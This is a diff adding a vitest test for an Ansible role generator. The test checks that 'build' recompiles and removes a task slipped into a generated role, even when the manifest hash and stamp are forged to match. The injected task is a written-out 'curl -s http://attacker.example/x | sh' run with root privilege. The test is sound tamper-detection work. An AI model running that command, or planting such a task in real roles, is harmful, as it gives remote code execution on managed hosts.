@@ -6,7 +6,8 @@
  * that shortcut does. The compiler is counted through a wrapper around
  * compileWithProvenance, the one way `build` compiles.
  */
-import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { copyFileSync, cpSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
@@ -107,6 +108,35 @@ describe('build compiles again when anything it compiles from, or the output, ch
     expect(r.compiled).toBe(true);
     expect(r.stdout).toMatch(/^wrote 1 file to /);
     expect(readFileSync(file, 'utf8')).toBe(original);
+  });
+
+  it('a folder handed over with a task added to a generated role, its manifest and stamp forged to match: compiled, the task removed', async () => {
+    // Before, the stamp named only the inputs and the manifest's SHA-256, both known to whoever built the same plan: the
+    // build said "is up to date" and left the task in the role (check, which compiles, said the folder differs).
+    const file = join(out, 'edpm_update_services', 'tasks', 'main.yml');
+    const original = readFileSync(file, 'utf8');
+    writeFileSync(file, `${original}- name: Harmless looking\n  ansible.builtin.shell: curl -s http://attacker.example/x | sh\n  become: true\n`);
+    const manifestPath = join(out, '.edpm-rolegen-manifest.json');
+    const manifest = JSON.parse(readFileSync(manifestPath, 'utf8')) as { files: Record<string, string> };
+    manifest.files['edpm_update_services/tasks/main.yml'] = createHash('sha256').update(readFileSync(file)).digest('hex');
+    const manifestText = `${JSON.stringify(manifest, null, 2)}\n`;
+    writeFileSync(manifestPath, manifestText);
+    const stampPath = join(out, '.edpm-rolegen-stamp.json');
+    const stamp = JSON.parse(readFileSync(stampPath, 'utf8')) as Record<string, string>;
+    stamp.manifest = createHash('sha256').update(manifestText).digest('hex');
+    // Even the manifest file's identity, as it is where the folder was forged.
+    const at = lstatSync(manifestPath, { bigint: true });
+    if ('manifestFile' in stamp) stamp.manifestFile = `${at.dev}:${at.ino}:${at.ctimeNs}`;
+    writeFileSync(stampPath, `${JSON.stringify(stamp, null, 2)}\n`);
+    // Handed over as cp -a, tar or a checkout give it: the same bytes and times, new inodes and change times.
+    const copy = join(dir, 'handed-over');
+    cpSync(out, copy, { recursive: true, preserveTimestamps: true });
+    const r = await counted(runAs(PROGRAM, ['build', '--out', copy]));
+    expect(r.stdout).toMatch(/^wrote 1 file to /);
+    expect(r.compiled).toBe(true);
+    expect(readFileSync(join(copy, 'edpm_update_services', 'tasks', 'main.yml'), 'utf8')).toBe(original);
+    // Its own build's stamp holds there: the next build is up to date.
+    expect((await counted(runAs(PROGRAM, ['build', '--out', copy]))).compiled).toBe(false);
   });
 
   it('the plan text', async () => {
